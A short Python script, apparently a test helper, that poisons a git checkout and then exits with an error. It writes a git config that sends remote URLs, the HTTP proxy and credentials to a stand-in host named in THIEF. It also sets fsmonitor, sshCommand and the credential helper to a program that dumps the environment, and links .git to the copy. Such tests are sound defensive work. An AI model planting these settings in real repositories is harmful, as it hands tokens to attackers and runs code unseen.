#!/usr/bin/env python3
"""Leaves a checkout in which git, run with its configuration, would take the token to THIEF: then
crashes. Started again, it goes on for ever, and says so."""

import os
import pathlib
import shutil
import sys
import time

git = pathlib.Path(".git")
evil = pathlib.Path("evil.git").absolute()
if evil.exists():
    print("started again", flush=True)
    while True:
        time.sleep(1)
program = evil / "program"
shutil.copytree(git, evil)
(evil / "config").write_text(f"""[core]
    repositoryformatversion = 0
    fsmonitor = {program}
    sshCommand = {program}
[url "{os.environ['THIEF']}"]
    insteadOf = {os.environ['SERVER']}
[http]
    proxy = {os.environ['THIEF']}
[credential]
    helper = {program}
""")
program.write_text(f"#!/bin/sh\nenv >>{evil}/ran\n")
program.chmod(0o755)
(git / "commondir").write_text(f"{evil}\n")
shutil.rmtree(git / "objects")
(git / "objects").mkdir()
sys.exit("the checkout is poisoned")
